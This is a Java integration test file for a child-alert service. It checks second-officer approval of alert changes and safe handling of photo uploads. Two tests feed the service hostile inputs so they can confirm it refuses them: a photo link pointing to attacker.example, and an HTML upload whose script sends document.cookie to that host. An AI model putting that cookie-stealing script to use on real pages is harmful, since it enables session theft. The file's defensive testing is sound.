package org.childalert.alerts;

import static org.assertj.core.api.Assertions.assertThat;
import static org.childalert.alerts.Escalations.ALL_CRITERIA_MET;
import static org.childalert.alerts.Escalations.escalation;
import static org.childalert.alerts.Escalations.someCoordinator;
import static org.childalert.alerts.Tokens.coordinator;
import static org.childalert.alerts.Tokens.officer;
import static org.childalert.alerts.Tokens.tokenOf;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;

import javax.imageio.ImageIO;

import org.childalert.alerts.lifecycle.EscalationIntake;
import org.childalert.events.CaseEscalationRequested;
import org.childalert.events.DisclosureLevel;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.RequestPostProcessor;

/**
 * Changes to an approved alert under the four-eyes rule (issue 12, finding 7), and the child's photo uploaded
 * to and served by this service instead of a redirect to a typed URL (issue 12, finding 2).
 */
@SpringBootTest
@AutoConfigureMockMvc
@ActiveProfiles("test")
class AlertChangesIntegrationTests {

    private static final String ORIGINAL = "Red coat, blue backpack, shoulder-length brown hair.";

    @Autowired
    MockMvc mvc;

    @Autowired
    EscalationIntake intake;

    @Autowired
    JdbcClient jdbc;

    @Test
    void aCoordinatorsUpdateOfAnApprovedAlertChangesNothingVisibleAndPublishesNothingUntilASecondOfficerApproves()
            throws Exception {
        UUID id = activeAlert(DisclosureLevel.PUBLIC);
        String rewritten = "Call 0900 123 to claim a reward " + UUID.randomUUID();

        mvc.perform(post("/api/alerts/{id}/updates", id).with(coordinator()).contentType(MediaType.APPLICATION_JSON)
                        .content("{\"description\":\"" + rewritten + "\"}"))
                .andExpect(status().isAccepted())
                .andExpect(jsonPath("$.notice.description").value(ORIGINAL))
                .andExpect(jsonPath("$.pendingChange.kind").value("UPDATE"))
                .andExpect(jsonPath("$.pendingChange.requestedBy").value("alice"))
                .andExpect(jsonPath("$.pendingChange.requestedAt").isNotEmpty())
                .andExpect(jsonPath("$.pendingChange.description").value(rewritten));

        mvc.perform(get("/api/alerts/{id}", id).with(officer("dave")))
                .andExpect(jsonPath("$.notice.description").value(ORIGINAL))
                .andExpect(jsonPath("$.pendingChange.kind").value("UPDATE"));
        assertThat(capOf(id)).contains(ORIGINAL).doesNotContain(rewritten).doesNotContain("<msgType>Update");
        assertThat(feed()).doesNotContain(rewritten);
        assertThat(outboxCount(id, "alerts.AlertUpdated.v1")).isZero();

        mvc.perform(post("/api/alerts/{id}/changes/approval", id).with(officer("dave")))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.notice.description").value(rewritten))
                .andExpect(jsonPath("$.pendingChange").isEmpty());
        assertThat(outboxCount(id, "alerts.AlertUpdated.v1")).isEqualTo(1);
        assertThat(capOf(id)).contains("<msgType>Update</msgType>").contains(rewritten);
        assertThat(feed()).contains(rewritten);
        assertThat(decisionsOf(id)).containsSubsequence("APPROVED", "CHANGE_REQUESTED", "CHANGE_APPROVED", "UPDATED");
    }

    @Test
    void whoeverAskedForAChangeMayNotApproveItAndACoordinatorMayApproveNone() throws Exception {
        UUID id = activeAlert(DisclosureLevel.TARGETED);
        RequestPostProcessor bob = tokenOf("bob", "police", UUID.randomUUID().toString());
        mvc.perform(post("/api/alerts/{id}/widening", id).with(bob).contentType(MediaType.APPLICATION_JSON)
                        .content("{\"radiusKm\":120}"))
                .andExpect(status().isAccepted());

        mvc.perform(post("/api/alerts/{id}/changes/approval", id).with(bob))
                .andExpect(status().isForbidden())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                .andExpect(jsonPath("$.detail").value(containsString("four-eyes")));
        mvc.perform(post("/api/alerts/{id}/changes/approval", id).with(coordinator()))
                .andExpect(status().isForbidden());

        mvc.perform(get("/api/alerts/{id}", id).with(coordinator()))
                .andExpect(jsonPath("$.area.radiusKm").value(10.0))
                .andExpect(jsonPath("$.pendingChange.kind").value("WIDENING"))
                .andExpect(jsonPath("$.pendingChange.radiusKm").value(120.0));
        assertThat(outboxCount(id, "alerts.AlertWidened.v1")).isZero();
    }

    @Test
    void aSecondChangeWaitsUntilTheFirstIsDecided() throws Exception {
        UUID id = activeAlert(DisclosureLevel.PUBLIC);
        mvc.perform(post("/api/alerts/{id}/updates", id).with(coordinator()).contentType(MediaType.APPLICATION_JSON)
                .content("{\"description\":\"Grey hoodie\"}")).andExpect(status().isAccepted());

        mvc.perform(post("/api/alerts/{id}/widening", id).with(coordinator()).contentType(MediaType.APPLICATION_JSON)
                        .content("{\"radiusKm\":50}"))
                .andExpect(status().isConflict())
                .andExpect(jsonPath("$.detail").value(containsString("already waiting for a police decision")));
    }

    @Test
    void aRejectedChangeIsDiscardedWithItsPhotoAndTheAlertStaysAsApproved() throws Exception {
        UUID id = activeAlert(DisclosureLevel.PUBLIC);
        mvc.perform(put("/api/alerts/{id}/photo", id).with(coordinator()).contentType(MediaType.IMAGE_PNG)
                        .content(TestPhotos.png()))
                .andExpect(status().isAccepted())
                .andExpect(jsonPath("$.pendingChange.newPhoto").value(true));
        mvc.perform(get("/api/alerts/{id}/changes/photo", id).with(officer("dave")))
                .andExpect(status().isOk())
                .andExpect(content().contentType(MediaType.IMAGE_PNG))
                .andExpect(header().string("X-Content-Type-Options", "nosniff"));
        mvc.perform(get("/api/feeds/alerts/{id}/photo", id)).andExpect(status().isNotFound());

        mvc.perform(post("/api/alerts/{id}/changes/rejection", id).with(officer("dave"))
                        .contentType(MediaType.APPLICATION_JSON).content("{}"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.errors[0].field").value("reason"));
        mvc.perform(post("/api/alerts/{id}/changes/rejection", id).with(officer("dave"))
                        .contentType(MediaType.APPLICATION_JSON).content("{\"reason\":\"Not the missing child\"}"))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.pendingChange").isEmpty())
                .andExpect(jsonPath("$.hasPhoto").value(false));

        assertThat(count("select count(*) from alert_photo where alert_id = :id", id)).isZero();
        mvc.perform(get("/api/feeds/alerts/{id}/photo", id)).andExpect(status().isNotFound());
        assertThat(outboxCount(id, "alerts.AlertUpdated.v1")).isZero();
        assertThat(decisionsOf(id)).endsWith("CHANGE_REQUESTED", "CHANGE_REJECTED");
        mvc.perform(post("/api/alerts/{id}/updates", id).with(coordinator()).contentType(MediaType.APPLICATION_JSON)
                .content("{\"description\":\"Grey hoodie\"}")).andExpect(status().isAccepted());
    }

    @Test
    void thePhotoLinkServesTheUploadedImageFromOurOwnOriginWithoutItsMetadataAndNeverRedirects() throws Exception {
        UUID id = activeAlert(DisclosureLevel.PUBLIC);
        mvc.perform(put("/api/alerts/{id}/photo", id).with(coordinator()).contentType(MediaType.IMAGE_JPEG)
                .content(TestPhotos.jpegWithGpsExif())).andExpect(status().isAccepted());
        mvc.perform(post("/api/alerts/{id}/changes/approval", id).with(officer("dave"))).andExpect(status().isOk());

        byte[] served = mvc.perform(get("/api/feeds/alerts/{id}/photo", id))
                .andExpect(status().isOk())
                .andExpect(header().doesNotExist("Location"))
                .andExpect(content().contentType(MediaType.IMAGE_JPEG))
                .andExpect(header().string("X-Content-Type-Options", "nosniff"))
                .andExpect(header().string("Content-Security-Policy", "default-src 'none'; sandbox"))
                .andExpect(header().string("Cache-Control", containsString("private")))
                .andReturn().getResponse().getContentAsByteArray();

        assertThat(new String(served, StandardCharsets.ISO_8859_1)).doesNotContain(TestPhotos.HOME_POSITION)
                .doesNotContain("Exif");
        assertThat(ImageIO.read(new ByteArrayInputStream(served)).getWidth()).isEqualTo(64);
        assertThat(payloads(id, "alerts.AlertUpdated.v1")).singleElement().asString()
                .contains("\"photoLink\": \"http://localhost:8080/api/feeds/alerts/" + id + "/photo\"");
    }

    @Test
    void anUpdateCarryingAPhotoLinkIsRefusedSayingPhotosAreUploaded() throws Exception {
        UUID id = activeAlert(DisclosureLevel.PUBLIC);

        for (String body : List.of(
                "{\"photoUrl\":\"https://attacker.example/steal\"}",
                "{\"description\":\"x\",\"photo\":{\"url\":\"https://attacker.example/steal\",\"mimeType\":\"image/jpeg\"}}")) {
            mvc.perform(post("/api/alerts/{id}/updates", id).with(coordinator())
                            .contentType(MediaType.APPLICATION_JSON).content(body))
                    .andExpect(status().isBadRequest())
                    .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                    .andExpect(jsonPath("$.detail").value(containsString("photos are uploaded")));
        }
        mvc.perform(get("/api/alerts/{id}", id).with(coordinator())).andExpect(jsonPath("$.pendingChange").isEmpty());
        assertThat(jdbc.sql("select count(*) from alert_decision where alert_id = :id and decision = 'CHANGE_REQUESTED'")
                .param("id", id).query(Long.class).single()).isZero();
    }

    @Test
    void anUploadThatIsNotAnImageIsRefused() throws Exception {
        UUID id = activeAlert(DisclosureLevel.PUBLIC);
        byte[] html = "<html><script>fetch('https://attacker.example/'+document.cookie)</script>"
                .getBytes(StandardCharsets.UTF_8);

        mvc.perform(put("/api/alerts/{id}/photo", id).with(coordinator()).contentType(MediaType.IMAGE_PNG)
                        .content(html))
                .andExpect(status().isBadRequest())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                .andExpect(jsonPath("$.detail").value(containsString("not a JPEG, PNG or WebP image")));
        mvc.perform(put("/api/alerts/{id}/photo", id).with(coordinator()).contentType(MediaType.TEXT_HTML)
                        .content(html))
                .andExpect(status().isUnsupportedMediaType())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON));
        assertThat(count("select count(*) from alert_photo where alert_id = :id", id)).isZero();
    }

    @Test
    void anUploadOverFiveMegabytesIsRefusedAsTooLarge() throws Exception {
        UUID id = activeAlert(DisclosureLevel.PUBLIC);
        byte[] oversized = Arrays.copyOf(TestPhotos.jpegWithGpsExif(), 5 * 1024 * 1024 + 1);

        mvc.perform(put("/api/alerts/{id}/photo", id).with(coordinator()).contentType(MediaType.IMAGE_JPEG)
                        .content(oversized))
                .andExpect(status().isPayloadTooLarge())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                .andExpect(jsonPath("$.detail").value(containsString("5 MB")));
        assertThat(count("select count(*) from alert_photo where alert_id = :id", id)).isZero();
    }

    @Test
    void cancellingAnAlertDeletesItsPhotosTheOneWaitingForApprovalToo() throws Exception {
        UUID id = activeAlert(DisclosureLevel.PUBLIC);
        mvc.perform(put("/api/alerts/{id}/photo", id).with(coordinator()).contentType(MediaType.IMAGE_PNG)
                .content(TestPhotos.png())).andExpect(status().isAccepted());
        mvc.perform(post("/api/alerts/{id}/changes/approval", id).with(officer("dave"))).andExpect(status().isOk());
        mvc.perform(put("/api/alerts/{id}/photo", id).with(coordinator()).contentType(MediaType.IMAGE_JPEG)
                .content(TestPhotos.jpegWithGpsExif())).andExpect(status().isAccepted());
        assertThat(count("select count(*) from alert_photo where alert_id = :id", id)).isEqualTo(2);

        mvc.perform(post("/api/alerts/{id}/cancellation", id).with(coordinator())
                        .contentType(MediaType.APPLICATION_JSON).content("{\"reason\":\"FOUND_SAFE\"}"))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.pendingChange").isEmpty());

        assertThat(count("select count(*) from alert_photo where alert_id = :id", id)).isZero();
        assertThat(jdbc.sql("select pending_description is null and pending_kind is null from alert where id = :id")
                .param("id", id).query(Boolean.class).single()).isTrue();
        mvc.perform(get("/api/feeds/alerts/{id}/photo", id)).andExpect(status().isGone());
    }

    private UUID activeAlert(DisclosureLevel level) throws Exception {
        CaseEscalationRequested request = escalation(level, ALL_CRITERIA_MET, someCoordinator());
        intake.open(request);
        mvc.perform(post("/api/alerts/{id}/approval", request.alertId()).with(officer("bob")))
                .andExpect(status().isOk());
        return request.alertId();
    }

    private String capOf(UUID id) throws Exception {
        return mvc.perform(get("/api/alerts/{id}/cap", id).with(coordinator()))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
    }

    private String feed() throws Exception {
        return mvc.perform(get("/api/feeds/alerts.atom")).andReturn().getResponse().getContentAsString();
    }

    private List<String> decisionsOf(UUID id) {
        return jdbc.sql("select decision from alert_decision where alert_id = :id order by decided_at, id")
                .param("id", id).query(String.class).list();
    }

    private long outboxCount(UUID id, String type) {
        return payloads(id, type).size();
    }

    private List<String> payloads(UUID id, String type) {
        return jdbc.sql("select payload::text from outbox_event where subject_id = :id and type_name = :type")
                .param("id", id).param("type", type).query(String.class).list();
    }

    private long count(String sql, UUID id) {
        return jdbc.sql(sql).param("id", id).query(Long.class).single();
    }
}
